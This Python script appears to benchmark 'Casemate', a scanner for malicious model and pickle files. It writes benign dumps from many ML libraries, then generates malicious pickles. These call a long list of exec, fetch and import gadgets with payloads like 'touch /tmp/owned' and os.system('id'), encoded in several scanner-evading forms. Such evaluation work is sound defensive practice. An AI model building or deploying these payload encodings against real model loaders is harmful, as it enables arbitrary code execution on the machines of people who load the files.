#!/usr/bin/env python3
"""How Casemate judges files that nothing in it was derived from: the rates, and what each miss is about.

    python3 held_back.py benign FOLDER [PART...]    # in each environment with libraries: what those libraries dump
    python3 held_back.py malicious FOLDER           # anywhere: calls of what no list has, in many encodings
    python3 held_back.py judge CASEMATE FOLDER...   # counts verdicts, and names what the unlisted imports are

Benign dumps come from whatever is installed: estimators with parameters drawn from a fixed seed and fitted to random
data, compositions of them, frames, arrays, checkpoints, and the models of libraries that have no rows of their own.
`content/allowlists/derive.py` makes none of these objects. The libraries are the reader's choice, since the rates are
theirs: the last run's are in bench/results/held-back.md.
"""
import collections
import importlib
import inspect
import io
import json
import pickle
import random
import re
import signal
import subprocess
import sys
import warnings
from pathlib import Path

sys.dont_write_bytecode = True
SEED = 77
SLOW = 15


# ---- What libraries dump ---------------------------------------------------------------------------------------------

def classification():
    import numpy

    source = numpy.random.RandomState(SEED)
    x = source.rand(60, 4)
    return x, (x[:, 0] + x[:, 1] > 1).astype(int)


def estimators_of(package, base):
    """The estimators of a package in scikit-learn's style, fitted where they can be."""
    module, seen = importlib.import_module(package), set()
    modules = [module] + [value for _, value in inspect.getmembers(module, inspect.ismodule)
                          if value.__name__.startswith(package.split(".")[0])]
    x, y = classification()
    for found in modules:
        for name, cls in sorted(inspect.getmembers(found, inspect.isclass)):
            if cls in seen or not cls.__module__.startswith(package.split(".")[0]) or not hasattr(cls, base):
                continue
            seen.add(cls)
            try:
                made = cls()
                yield name, made
            except Exception:
                continue
            for target in (y, x[:, 0] * 2 + x[:, 1]):
                try:
                    yield name, limited(cls().fit, x, target)
                    break
                except Exception:
                    continue


def limited(action, *given):
    def give_up(*_):
        raise TimeoutError

    signal.signal(signal.SIGALRM, give_up)
    signal.alarm(SLOW)
    try:
        return action(*given)
    finally:
        signal.alarm(0)


def drawn_estimators():
    """scikit-learn's estimators with parameters drawn among the choices that they declare, alone and in pipelines."""
    from sklearn.pipeline import make_pipeline, make_union
    from sklearn.preprocessing import MinMaxScaler, PowerTransformer
    from sklearn.utils import all_estimators

    source = random.Random(SEED)
    x, y = classification()
    for name, cls in all_estimators():
        for _ in range(3):
            given = {}
            for key, allowed in getattr(cls, "_parameter_constraints", {}).items():
                options = [o for a in allowed if hasattr(a, "options") for o in sorted(map(str, a.options))] \
                    if isinstance(allowed, list) else []
                if options and source.random() < 0.5:
                    given[key] = source.choice(options)
            for key in ("n_estimators", "max_iter"):
                if key in inspect.signature(cls.__init__).parameters:
                    given[key] = source.randrange(2, 7)
            try:
                made = cls(**given)
                if source.random() < 0.3:
                    made = make_pipeline(make_union(MinMaxScaler(), PowerTransformer()), made)
                yield name, limited(made.fit, x, y)
            except Exception:
                continue


def searches():
    import numpy
    import scipy.stats
    from sklearn.ensemble import RandomForestClassifier, StackingClassifier, VotingClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.model_selection import GridSearchCV, ParameterSampler, RandomizedSearchCV, StratifiedKFold
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler

    x, y = classification()
    model = LogisticRegression()
    for distribution in (scipy.stats.uniform(0.1, 2), scipy.stats.expon(scale=3), scipy.stats.gamma(2.0),
                         scipy.stats.norm(1, 0.1), scipy.stats.lognorm(0.5), scipy.stats.halfnorm(),
                         getattr(scipy.stats, "loguniform", scipy.stats.reciprocal)(1e-3, 1.0), scipy.stats.beta(2, 3)):
        yield "RandomizedSearchCV", RandomizedSearchCV(model, {"C": distribution}, n_iter=2, cv=2).fit(x, y)
    yield "RandomizedSearchCV", RandomizedSearchCV(
        RandomForestClassifier(), {"max_depth": scipy.stats.randint(2, 9), "n_estimators": scipy.stats.randint(2, 5)},
        n_iter=2, cv=StratifiedKFold(2)).fit(x, y)
    yield "ParameterSampler", ParameterSampler({"C": scipy.stats.poisson(3)}, 3)
    yield "GridSearchCV", GridSearchCV(
        Pipeline([("f", FunctionTransformer(numpy.sqrt)), ("s", StandardScaler()), ("m", model)]),
        {"m__C": [0.5, 5.0]}, scoring="f1", cv=2).fit(x, y)
    members = [("l", model), ("r", RandomForestClassifier(3))]
    yield "VotingClassifier", VotingClassifier(members).fit(x, y)
    yield "StackingClassifier", StackingClassifier(members, cv=2).fit(x, y)


def distributions():
    import scipy.stats as stats

    source = random.Random(SEED)
    for name, value in sorted(vars(stats).items()):
        if isinstance(value, (stats.rv_continuous, stats.rv_discrete)):
            shapes = [source.uniform(0.5, 4) for _ in range(value.numargs)]
            for made in (value, type(value)(name="own", shapes=value.shapes) if value.numargs else None):
                yield name, made
            try:
                yield name, value(*shapes, loc=source.random())
            except Exception:
                continue


def frames():
    import numpy
    import pandas

    source = numpy.random.RandomState(SEED)
    table = pandas.DataFrame({
        "n": source.rand(30), "i": source.randint(0, 9, 30), "t": ["a", "b", None] * 10,
        "c": pandas.Categorical(["x", "y", "z"] * 10), "d": pandas.date_range("2020-02-02", periods=30, freq="D", tz="Asia/Tokyo")})
    yield "frame", table
    yield "groups", table.groupby("c", observed=True)["n"].mean()
    yield "pivot", table.pivot_table(index="c", values="n", aggfunc=["mean", "max"], observed=True)
    yield "resampled", table.set_index("d")["n"].resample("W").sum()
    yield "periods", pandas.Series(range(4), index=pandas.period_range("2021Q1", periods=4, freq="Q"))
    yield "intervals", pandas.cut(table["n"], 4)
    yield "nested", {"frames": [table.head(), table.T], "when": pandas.Timestamp("2020-05-05"), "for": pandas.Timedelta("3h")}
    yield "nullable", table.convert_dtypes()
    yield "sparse", pandas.DataFrame({"s": pandas.arrays.SparseArray([0, 0, 1])})


def torch_modules():
    import torch

    for name, cls in sorted(inspect.getmembers(torch.nn, inspect.isclass)):
        if issubclass(cls, torch.nn.Module):
            for given in ((), (4,), (4, 4), (4, 4, 3), (8, 2), (8, 2, 16)):
                try:
                    yield name, cls(*given)
                    break
                except Exception:
                    continue
    net = torch.nn.Sequential(
        torch.nn.Conv2d(1, 3, 3), torch.nn.BatchNorm2d(3), torch.nn.ReLU(), torch.nn.Flatten(), torch.nn.LazyLinear(2))
    yield "lazy", net
    net(torch.rand(1, 1, 8, 8))
    for name, cls in sorted(inspect.getmembers(torch.optim, inspect.isclass)):
        if issubclass(cls, torch.optim.Optimizer):
            try:
                made = cls(net.parameters(), lr=0.1)
            except Exception:
                continue
            yield "checkpoint " + name, {"model": net.state_dict(), "optimizer": made.state_dict(), "epoch": 3}
            yield "optimizer " + name, made
    step = torch.optim.SGD(net.parameters(), lr=0.1)
    for name, cls in sorted(inspect.getmembers(torch.optim.lr_scheduler, inspect.isclass)):
        for given in ((), (3,), ([2, 4],), (0.9,), (0.01, 0.1)):
            try:
                made = cls(step, *given)
            except Exception:
                continue
            if hasattr(made, "state_dict"):
                yield "scheduler " + name, made.state_dict()
                yield "scheduler " + name, made
            break
    for name, cls in sorted(inspect.getmembers(torch.distributions, inspect.isclass)):
        for given in ((), (torch.tensor([0.3, 0.7]),), (torch.tensor([0.0]), torch.tensor([1.0]))):
            try:
                yield "distribution " + name, cls(*given)
                break
            except Exception:
                continue
    yield "quantised", torch.ao.quantization.quantize_dynamic(torch.nn.Sequential(torch.nn.Linear(4, 4)))
    yield "encoder", torch.nn.TransformerEncoder(torch.nn.TransformerEncoderLayer(8, 2), 2)
    yield "pruned", torch.nn.utils.parametrizations.weight_norm(torch.nn.Linear(3, 3)).state_dict()
    yield "sparse", {"w": torch.eye(3).to_sparse(), "h": torch.ones(2, dtype=torch.bfloat16), "q": torch.quantize_per_tensor(
        torch.ones(3), 0.1, 0, torch.qint8)}


def torch_zoo():
    """State dicts and whole models of packages of models."""
    import torch

    for package, names in (("torchvision.models", ("resnet18", "mobilenet_v3_small", "squeezenet1_1", "shufflenet_v2_x0_5")),
                           ("timm", ())):
        try:
            module = importlib.import_module(package)
        except ImportError:
            continue
        for name in names:
            model = getattr(module, name)(weights=None)
            yield name, {"state_dict": model.state_dict(), "arch": name, "best_acc1": torch.tensor(71.2)}
            yield "whole " + name, model
        for name in ("resnet10t", "mobilenetv3_small_050") if package == "timm" else ():
            model = module.create_model(name)
            yield name, model.state_dict()
            yield "whole " + name, model


def statsmodels():
    import numpy
    import statsmodels.api as sm
    from statsmodels.tsa.arima.model import ARIMA
    from statsmodels.tsa.holtwinters import ExponentialSmoothing

    x, y = classification()
    for model in (sm.OLS(y, sm.add_constant(x)), sm.GLM(y, x, family=sm.families.Binomial()), sm.Logit(y, x[:, 2:]), sm.RLM(y, x),
                  sm.Poisson(y, x[:, 2:]), sm.WLS(y, x)):
        yield type(model).__name__, limited(model.fit)
    yield "ARIMA", limited(ARIMA(numpy.cumsum(x[:, 0]), order=(1, 1, 0)).fit)
    yield "ExponentialSmoothing", limited(ExponentialSmoothing(x[:, 0]).fit)


def texts():
    from gensim import corpora, models

    words = [["human", "interface", "computer"], ["survey", "user", "computer"], ["graph", "trees"], ["user", "trees"]] * 4
    dictionary = corpora.Dictionary(words)
    bags = [dictionary.doc2bow(text) for text in words]
    yield "Dictionary", dictionary
    yield "TfidfModel", models.TfidfModel(bags)
    yield "LdaModel", models.LdaModel(bags, 2, dictionary)
    yield "LsiModel", models.LsiModel(bags, 2, dictionary)
    yield "Word2Vec", models.Word2Vec(words, vector_size=5, min_count=1)
    yield "KeyedVectors", models.Word2Vec(words, vector_size=5, min_count=1).wv
    yield "FastText", models.FastText(words, vector_size=5, min_count=1, bucket=50)
    yield "Doc2Vec", models.Doc2Vec([models.doc2vec.TaggedDocument(text, [0]) for text in words], vector_size=5, min_count=1)
    yield "Phrases", models.Phrases(words)


def language():
    import nltk

    tagged = [[("the", "DT"), ("dog", "NN")], [("a", "DT"), ("cat", "NN")]] * 3
    yield "UnigramTagger", nltk.UnigramTagger(tagged, backoff=nltk.DefaultTagger("NN"))
    yield "BigramTagger", nltk.BigramTagger(tagged)
    yield "NaiveBayes", nltk.NaiveBayesClassifier.train([({"a": 1}, "x"), ({"a": 2}, "y")])
    yield "FreqDist", nltk.FreqDist("some words some".split())
    yield "tree", nltk.Tree("S", [nltk.Tree("NP", ["dog"])])
    yield "stemmers", [nltk.PorterStemmer(), nltk.RegexpTokenizer(r"\w+")]


def boosted():
    x, y = classification()
    for module, names in (("xgboost", ("XGBClassifier", "XGBRegressor", "XGBRFClassifier", "XGBRanker")),
                          ("lightgbm", ("LGBMClassifier", "LGBMRegressor")),
                          ("catboost", ("CatBoostClassifier", "CatBoostRegressor"))):
        try:
            found = importlib.import_module(module)
        except ImportError:
            continue
        for name in names:
            for given in ({"n_estimators": 3}, {"n_estimators": 2, "max_depth": 3, "learning_rate": 0.3}):
                try:
                    yield name, getattr(found, name)(**given).fit(x, y)
                except Exception:
                    continue


def tables():
    import polars
    import pyarrow

    frame = polars.DataFrame({"a": [1, 2], "b": ["x", None]})
    yield "polars", frame
    yield "polars series", frame["a"]
    yield "polars lazy", frame.lazy()
    yield "pyarrow schema", pyarrow.schema([("a", pyarrow.int64()), ("b", pyarrow.string())])
    yield "pyarrow table", pyarrow.table({"a": [1, 2]})


def tokenizers():
    import tokenizers

    for model in (tokenizers.models.BPE(), tokenizers.models.WordLevel({"a": 0}, "a"), tokenizers.models.WordPiece({"a": 0}, unk_token="a")):
        made = tokenizers.Tokenizer(model)
        made.pre_tokenizer = tokenizers.pre_tokenizers.Whitespace()
        yield type(model).__name__, made


def pickled_by_value():
    import cloudpickle
    import numpy
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler

    offset = 3
    for made in (StandardScaler(), make_pipeline(FunctionTransformer(numpy.log1p), StandardScaler()), {"a": [1, 2]},
                 make_pipeline(FunctionTransformer(lambda x: x + offset))):
        yield "cloudpickle", cloudpickle.dumps(made)


def parts():
    yield "sklearn", drawn_estimators
    yield "searches", searches
    yield "distributions", distributions
    yield "pandas", frames
    yield "torch", torch_modules
    yield "torch-zoo", torch_zoo
    yield "boosted", boosted
    yield "statsmodels", statsmodels
    yield "gensim", texts
    yield "nltk", language
    yield "tables", tables
    yield "tokenizers", tokenizers
    yield "cloudpickle", pickled_by_value
    for package in ("imblearn.over_sampling", "imblearn.under_sampling", "imblearn.combine", "imblearn.ensemble",
                    "imblearn.pipeline", "category_encoders", "mlxtend.classifier", "mlxtend.preprocessing",
                    "mlxtend.feature_selection", "feature_engine.imputation", "feature_engine.encoding",
                    "feature_engine.outliers", "feature_engine.selection", "feature_engine.transformation",
                    "feature_engine.discretisation", "feature_engine.creation", "hdbscan", "umap", "skorch",
                    "pyod.models.iforest", "pyod.models.knn", "pyod.models.lof", "pyod.models.ecod", "pyod.models.copod",
                    "pyod.models.pca", "pyod.models.hbos", "pyod.models.ocsvm", "pyod.models.cblof", "sklearn_crfsuite"):
        yield package, lambda package=package: estimators_of(package, "fit")


def dumps(value, is_torch):
    if isinstance(value, bytes):
        yield "pkl", value
        return
    if is_torch:
        import torch

        out = io.BytesIO()
        torch.save(value, out)
        yield "pt", out.getvalue()
    for protocol in (2, 4):
        yield "pkl", pickle.dumps(value, protocol)
    try:
        import joblib
    except ImportError:
        return
    out = io.BytesIO()
    joblib.dump(value, out)
    yield "joblib", out.getvalue()


def benign(into, wanted):
    warnings.simplefilter("ignore")
    python = "%d%d" % sys.version_info[:2]
    for part, objects in parts():
        count = 0
        if wanted and part not in wanted:
            continue
        try:
            for label, value in objects():
                if value is None:
                    continue
                try:
                    files = list(dumps(value, part.startswith("torch")))
                except Exception as error:  # holds what cannot be pickled
                    print("%s: %s: %s" % (part, label, error), file=sys.stderr)
                    continue
                for ending, data in files:
                    name = "%s-%04d-py%s-%s.%s" % (part, count, python, label.replace(" ", "_"), ending)
                    (into / name).write_bytes(data)
                    count += 1
        except Exception as error:  # not installed, or of another version
            print("%s: broken off after %d: %r" % (part, count, error), file=sys.stderr)


# ---- What attackers write --------------------------------------------------------------------------------------------

COMMAND, SOURCE, FILE, URL, DOTTED, NAME = (
    "touch /tmp/owned", "__import__('os').system('id')", "/tmp/cache/data.bin", "http://198.51.100.7/x", "os.system", "payload")

# Functions and classes that run, import, fetch or write what they are given, and what they would be given.
GADGETS = """
fabric.operations local COMMAND | fabric.api run COMMAND | invoke run COMMAND | invoke.runners Local NONE | sh Command COMMAND
plumbum.commands.processes run_proc NONE | pexpect run COMMAND | pexpect spawn COMMAND | pexpect.popen_spawn PopenSpawn COMMAND
paramiko.proxy ProxyCommand COMMAND | nltk.downloader download NAME | nltk.data load FILE | nltk.internals java NAME
gensim.utils unpickle FILE | gensim.utils check_output COMMAND | gensim.downloader load NAME
statsmodels.iolib.smpickle load_pickle FILE | statsmodels.datasets.utils get_rdataset NAME | networkx read_gpickle FILE
polars read_ndjson FILE | polars.io.csv.functions read_csv URL | pyarrow.fs _resolve_filesystem_and_path URL
scipy.io loadmat FILE | scipy.datasets._fetchers fetch_data NAME | scipy._lib._testutils run_command NAME
numpy fromfile FILE | numpy.lib.npyio loadtxt URL | numpy.f2py.f2py2e run_main NAME | numpy savetxt FILE
numpy.distutils.exec_command exec_command COMMAND | numpy.ctypeslib load_library NAME
pandas read_csv URL | pandas eval SOURCE | pandas.io.common get_handle FILE | pandas read_hdf FILE | pandas.core.computation.eval eval SOURCE
torch.utils.collect_env run COMMAND | torch.utils.cpp_extension load_inline SOURCE | torch.jit load FILE
torch.utils.model_zoo load_url URL | torch.hub download_url_to_file URL | torch._dynamo.utils import_submodule NAME
torch._inductor.codecache run_command_and_check COMMAND | torch.package.package_importer PackageImporter FILE
sklearn.datasets fetch_openml NAME | sklearn.datasets load_svmlight_file FILE | sklearn.utils._testing assert_run_python_script SOURCE
joblib.memory Memory FILE | joblib.numpy_pickle load FILE | xgboost.tracker start_rabit_tracker NAME | catboost.utils create_cd NAME
setuptools.sandbox run_setup FILE | distutils.spawn spawn COMMAND | pkg_resources run_script NAME
setuptools._distutils.spawn spawn COMMAND | setuptools._distutils.file_util write_file FILE | pip._internal.cli.main main NAME
pip._internal.utils.subprocess call_subprocess COMMAND | pip._vendor.distlib.util resolve DOTTED
IPython.utils.process system COMMAND | IPython.utils._process_posix getoutput COMMAND | IPython start_ipython NAME
IPython.core.interactiveshell InteractiveShell NONE | jinja2.utils import_string DOTTED | jinja2.environment Template SOURCE
werkzeug.utils import_string DOTTED | flask.config Config FILE | flask.cli run_command COMMAND | django.core.management call_command NAME
django.utils.module_loading import_string DOTTED | django.utils.autoreload run_with_reloader NAME
yaml unsafe_load SOURCE | yaml.constructor UnsafeConstructor NONE | ruamel.yaml load SOURCE | requests get URL | requests.api request URL
httpx get URL | urllib3 request URL | boto3 client NAME | botocore.session get_session NAME | fsspec open URL | fsspec.core open_files URL
fsspec filesystem NAME | cffi.verifier Verifier SOURCE | cffi.api FFI NONE | psutil Popen COMMAND | psutil._psposix pid_exists NAME
tensorflow.python.platform.gfile GFile FILE | keras.utils get_file URL | keras.models load_model FILE | onnx load FILE
onnxruntime InferenceSession FILE | transformers pipeline NAME | transformers.dynamic_module_utils get_class_from_dynamic_module NAME
transformers.utils.hub cached_file NAME | transformers.trainer_utils get_last_checkpoint FILE
accelerate.commands.launch launch_command NAME | accelerate.utils.other load FILE
gradio load NAME | gradio.external load_from_pipeline NAME | ray init NAME | ray._private.utils import_attr DOTTED
mlflow run URL | mlflow.pyfunc load_model FILE | mlflow.utils.process _exec_cmd COMMAND | dask.utils import_required NAME
distributed.protocol.pickle loads BYTES | dill loads BYTES | cloudpickle loads BYTES | joblib.externals.cloudpickle loads BYTES
numba.core.runtime nrt NAME | numba.pycc.platform external_compiler_works NAME | llvmlite.binding load_library_permanently FILE
notebook.notebookapp launch_new_instance NAME | jupyter_core.command main NAME | jupyter_client.manager start_new_kernel NAME
docker from_env NAME | git.cmd Git COMMAND | asyncssh run_client NAME | celery.utils.imports symbol_by_name DOTTED
rq.utils import_attribute DOTTED | kombu.serialization loads BYTES | apscheduler.util ref_to_obj DOTTED
twisted.python.reflect namedAny DOTTED | zope.dottedname.resolve resolve DOTTED | mako.template Template SOURCE
Cython.Build.Inline cython_inline SOURCE | pyximport.pyximport load_module NAME | sympy.core.sympify sympify SOURCE
sympy.parsing.sympy_parser parse_expr SOURCE | numexpr evaluate SOURCE | asteval.asteval Interpreter NONE | simpleeval simple_eval SOURCE
execnet makegateway NAME | nose.core run NAME | pytest main NAME | coverage.cmdline main NAME | black main NAME
PIL.Image open FILE | PIL.ImageShow show FILE | cv2 imread FILE | imageio.v2 imread URL | ffmpeg._run run NAME
h5py._hl.files File FILE | tables open_file FILE | zarr.convenience open FILE | sqlalchemy create_engine URL
psycopg2 connect NAME | redis from_url URL | pymongo.mongo_client MongoClient NAME | geopandas read_file FILE
datasets load_dataset NAME | huggingface_hub hf_hub_download NAME | huggingface_hub snapshot_download NAME | timm create_model NAME
ultralytics.utils.downloads safe_download URL | ultralytics.utils.checks check_requirements NAME | sentence_transformers SentenceTransformer NAME
spacy.util load_model NAME | spacy.cli.download download NAME | thinc.util require_gpu NAME | catalogue registry NAME
prophet.serialize model_from_json NAME | sktime.base load FILE | shap.utils._general safe_isinstance NAME | pycaret.internal.utils run NAME
hydra.utils instantiate NAME | hydra._internal.utils _locate DOTTED | omegaconf load FILE | pytorch_lightning.utilities.cloud_io load FILE
lightning.fabric.utilities.cloud_io _load FILE | wandb init NAME | clearml.backend_interface.util get_or_create_project NAME
bentoml load FILE | kfp.components load_component_from_url URL | airflow.utils.module_loading import_string DOTTED
pyspark.cloudpickle loads BYTES | pyspark.java_gateway launch_gateway NAME | h2o init NAME | rpy2.robjects r SOURCE | oct2py octave NAME
acme.loader bootstrap COMMAND | acme.tools.shell do COMMAND | acme.net fetch URL | acme.models Restorer COMMAND
"""


def gadgets():
    given = dict(COMMAND=COMMAND, SOURCE=SOURCE, FILE=FILE, URL=URL, DOTTED=DOTTED, NAME=NAME)
    for line in GADGETS.replace("\n", " | ").split(" | "):
        if line.strip():
            module, name, argument = line.split()
            yield module, name, argument, given.get(argument)


def malicious(into):
    sys.path[:0] = [str(Path(__file__).resolve().parents[2] / "tests" / "fixtures" / "pickle-tricks"), str(Path(__file__).parent)]
    import inputs
    from asm import EMPTY_DICT, MARK, NONE, REDUCE, STACK_GLOBAL, SETITEMS, TUPLE, blob, call, glob, number, pickled, short, text

    def as_dotted(module, name, arguments):
        package, _, rest = module.partition(".")
        return pickled(short(package), short((rest + "." if rest else "") + name), STACK_GLOBAL, MARK, *arguments, TUPLE, REDUCE)

    def as_computed_name(module, name, arguments):
        return pickled(call(glob("builtins", "getattr"), call(glob("importlib", "import_module"), text(module)), text(name)), MARK,
                       *arguments, TUPLE, REDUCE)

    def as_nested(module, name, arguments):
        return pickled(call(glob("torch.storage", "_load_from_bytes"), blob(inputs.as_protocol_2(module, name, arguments))))

    def as_key(module, name, arguments):
        return pickled(EMPTY_DICT, MARK, call(glob(module, name), *arguments), number(1), SETITEMS)

    def as_argument(module, name, arguments):
        return pickled(call(glob("collections", "OrderedDict"), b"]" + call(glob(module, name), *arguments) + b"a"))

    def as_state(module, name, arguments):
        made = glob("sklearn.linear_model._logistic", "LogisticRegression") + b")\x81"
        return pickled(made, EMPTY_DICT, MARK, text("coef_"), call(glob(module, name), *arguments), SETITEMS, b"b")

    forms = list(inputs.FORMS) + [(form, ".pkl") for form in (as_dotted, as_computed_name, as_nested, as_key, as_argument, as_state)]
    source = random.Random(SEED)
    for module, name, kind, value in gadgets():
        arguments = [] if kind == "NONE" else [blob(b"cos\nsystem\n(S'id'\ntR.") if kind == "BYTES" else text(value)]
        for form, ending in source.sample(forms, 5):
            label = form.__name__.replace("as_", "").replace("_", "-")
            (into / ("%s.%s-%s%s" % (module, name, label, ending))).write_bytes(form(module, name, arguments))


# ---- What Casemate says ----------------------------------------------------------------------------------------------

def verdicts_of(report):
    """The verdict of each file by its name, and how many files hold each thing that keeps them from being clean."""
    verdicts, causes = {}, collections.Counter()
    for artifact in report["artifacts"]:
        verdicts[Path(artifact["path"]).name] = artifact["verdict"]
        causes.update({re.sub("[0-9]{3,}", "N", found["message"]) for found in artifact["findings"]})
    return verdicts, causes


def judge(casemate, folders):
    for folder in folders:
        files = sorted(path for path in folder.iterdir() if path.is_file())
        told = subprocess.run([casemate, "scan", "--format", "json", str(folder)], capture_output=True, text=True)
        verdicts, causes = verdicts_of(json.loads(told.stdout))
        counts = collections.Counter(verdicts.get(path.name, "not told") for path in files)
        print("%s: %d files: %s" % (folder, len(files), dict(counts)))
        by_part = collections.defaultdict(collections.Counter)
        for path in files:
            by_part[path.name.split("-")[0]][verdicts.get(path.name, "not told")] += 1
        if len(by_part) < 60:
            for part, found in sorted(by_part.items()):
                print("  %-28s %s" % (part, dict(found)))
        for cause, count in causes.most_common(80):
            print("  %5d %s" % (count, cause))


def main():
    command, given = (sys.argv[1:2] or [""])[0], [Path(path) for path in sys.argv[2:]]
    if command in ("benign", "malicious") and given:
        given[0].mkdir(parents=True, exist_ok=True)
        benign(given[0], sys.argv[3:]) if command == "benign" else malicious(given[0])
    elif command == "judge" and len(given) > 1:
        judge(sys.argv[2], given[1:])
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
